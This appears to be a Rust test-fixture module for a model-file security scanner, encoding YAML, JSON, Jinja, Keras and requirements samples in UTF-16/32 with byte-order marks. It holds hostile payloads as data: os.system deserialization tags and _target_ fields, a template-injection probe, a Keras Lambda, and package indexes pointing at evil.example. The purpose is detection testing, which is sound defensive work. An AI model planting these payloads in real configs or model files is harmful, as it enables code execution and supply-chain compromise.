//! Documents in UTF-16 and UTF-32, and with marks: they say what they say in UTF-8.

use super::Expect::{self, Dangerous, Review, Safe, Suspect};
use super::Item;
use super::build::{Hdf5, Tar, Value, Zip};

/// Encodings with the mark in front, as PyYAML and pip take them.
const MARKED: [&str; 3] = ["utf-16-le", "utf-16-be", "utf-8-mark"];

/// Encodings that Python's JSON takes beside those.
const OF_JSON: [&str; 6] =
    ["utf-32-le", "utf-32-be", "utf-16-le-bare", "utf-16-be-bare", "utf-32-le-bare", "utf-32-be-bare"];

/// A text in an encoding.
fn encode(text: &str, encoding: &str) -> Vec<u8> {
    let (encoding, mark) = encoding.strip_suffix("-bare").map_or((encoding, "\u{feff}"), |encoding| (encoding, ""));
    let text = format!("{mark}{text}");
    match encoding {
        "utf-16-le" => text.encode_utf16().flat_map(u16::to_le_bytes).collect(),
        "utf-16-be" => text.encode_utf16().flat_map(u16::to_be_bytes).collect(),
        "utf-32-le" => text.chars().flat_map(|c| u32::from(c).to_le_bytes()).collect(),
        "utf-32-be" => text.chars().flat_map(|c| u32::from(c).to_be_bytes()).collect(),
        _ => text.into_bytes(),
    }
}

/// Documents that readers take in any encoding with a mark: name, path, text, what is said of it.
const DOCUMENTS: &[(&str, &str, &str, Expect)] = &[
    ("yaml-tag", "c.yaml", "x: !!python/object/apply:os.system ['true']\n", Dangerous),
    ("yaml-target", "conf/c.yml", "_target_: os.system\ncommand: id\n", Dangerous),
    ("yaml-honest", "c.yaml", "a: 1\nb: [2, 3]\n", Safe),
    ("requirements", "requirements.txt", "--index-url http://evil.example/simple\n", Review),
    ("requirements-honest", "requirements.txt", "torch==2.3.0\n", Safe),
    ("requirements-any-name", "list.txt", "torch==2.3.0\n--index-url http://evil.example/simple\n", Review),
    ("environment", "environment.yml", "channels:\n- https://evil.example/c\ndependencies:\n- numpy\n", Review),
    ("template", "chat_template.jinja", "{{ ().__class__.__base__.__subclasses__() }}", Dangerous),
    ("template-honest", "chat_template.jinja", "{% for m in messages %}{{ m['content'] }}{% endfor %}", Safe),
    (
        "project",
        "pyproject.toml",
        "[project]\nname = \"x\"\ndependencies = [\"x @ git+https://evil.example/x\"]\n",
        Review,
    ),
];

/// Documents in JSON.
const JSON: &[(&str, &str, &str, Expect)] = &[
    ("json-target", "config.json", r#"{"_target_": "os.system", "command": "id"}"#, Dangerous),
    ("json-call", "x.json", r#" {"py/reduce": [{"py/function": "os.system"}, {"py/tuple": ["id"]}]}"#, Dangerous),
    (
        "json-template",
        "tokenizer_config.json",
        r#"{"chat_template": "{{ ().__class__.__base__.__subclasses__() }}", "x": "Ω"}"#,
        Dangerous,
    ),
    ("json-honest", "config.json", r#"{"model_type": "bert", "name": "Ω😀"}"#, Safe),
    ("json-list", "x.json", "[1, 2, 3]", Safe),
];

/// A model of Keras with a function of its own.
const KERAS: &str =
    r#"{"class_name": "Lambda", "config": {"function": {"class_name": "__lambda__", "config": {"code": "4wEA"}}}}"#;

/// The items of the family.
#[must_use]
pub(crate) fn items() -> Vec<Item> {
    let documents = DOCUMENTS.iter().flat_map(|document| MARKED.map(|encoding| item(document, encoding)));
    let json = JSON.iter().flat_map(|document| MARKED.iter().chain(&OF_JSON).map(|encoding| item(document, encoding)));
    documents.chain(json).chain(keras()).chain(inside()).chain(odd()).collect()
}

fn item((name, path, text, expect): &(&str, &str, &str, Expect), encoding: &str) -> Item {
    Item::new(format!("encoded-{name}-{encoding}"), *expect, path, encode(text, encoding))
}

fn keras() -> Vec<Item> {
    let all = MARKED.into_iter().chain(OF_JSON);
    all.map(|encoding| {
        let config = encode(KERAS, encoding);
        let bytes = Zip::of(&[("metadata.json", b"{}"), ("config.json", config.as_slice())]);
        Item::new(format!("encoded-keras-{encoding}"), Dangerous, "m.keras", bytes).fires(&["keras-lambda"])
    })
    .collect()
}

/// In archives and in attributes.
fn inside() -> Vec<Item> {
    let yaml = encode("x: !!python/object/apply:os.system ['true']\n", "utf-16-le");
    let attribute =
        |encoding: &str| Hdf5::group().attribute("model_config", Value::Text(encode(KERAS, encoding))).bytes();
    vec![
        Item::new("encoded-in-zip", Dangerous, "x.zip", Zip::of(&[("a/c.yaml", yaml.as_slice())])),
        Item::new("encoded-in-nemo", Dangerous, "x.nemo", Tar::default().file("model_config.yaml", &yaml).bytes()),
        Item::new("encoded-in-attribute", Dangerous, "m.h5", attribute("utf-8-mark")).fires(&["keras-lambda"]),
        Item::new("encoded-in-attribute-wide", Suspect, "m.h5", attribute("utf-16-be")),
    ]
}

/// What is broken, or more than JSON has, and read all the same.
fn odd() -> Vec<Item> {
    let yaml = "x: !!python/object/apply:os.system ['true']\n";
    let wide = encode(yaml, "utf-16-le");
    let with = |more: &[u8]| [wide.as_slice(), more].concat();
    let controls =
        encode(&format!("{{\"a\": \"{}\", \"_target_\": \"os.system\"}}", "\u{80}\u{81}\u{82}"), "utf-16-le");
    let json = |name: &str, text: &str| Item::new(format!("encoded-json-{name}"), Dangerous, "config.json", text);
    vec![
        Item::new("encoded-odd-byte", Dangerous, "c.yaml", with(b"x")),
        Item::new("encoded-marks", Dangerous, "c.yaml", encode(&format!("\u{feff}{yaml}"), "utf-16-le")),
        Item::new("encoded-half-pairs", Dangerous, "c.yaml", with(&[0x00, 0xd8, 0x00, 0xd8, 0x0a, 0x00])),
        Item::new("encoded-controls", Dangerous, "config.json", controls),
        json("infinite", r#"{"a": NaN, "b": -Infinity, "c": 1e999, "_target_": "os.system"}"#),
        json("half-pair", r#"{"a": "\ud800 \udc00\udc00", "_target_": "os.system"}"#),
        Item::new(
            "encoded-json-half-pair-raw",
            Dangerous,
            "config.json",
            b"{\"a\": \"\xed\xa0\x80\", \"_target_\": \"os.system\"}".to_vec(),
        )
        .quiet(&["json-malformed"]),
        Item::new(
            "encoded-json-not-text",
            Dangerous,
            "config.json",
            b"{\"a\": \"\xff\", \"_target_\": \"os.system\"}".to_vec(),
        )
        .fires(&["json-malformed"]),
        Item::new(
            "encoded-keras-infinite",
            Dangerous,
            "m.keras",
            Zip::of(&[("metadata.json", b"{}"), ("config.json", KERAS.replace("\"4wEA\"", "NaN").as_bytes())]),
        )
        .fires(&["keras-lambda"])
        .quiet(&["json-malformed"]),
        Item::new(
            "encoded-json-infinite-honest",
            Safe,
            "config.json",
            r#"{"loss": [NaN, Infinity], "name": "\ud83d\ude00"}"#,
        ),
    ]
}
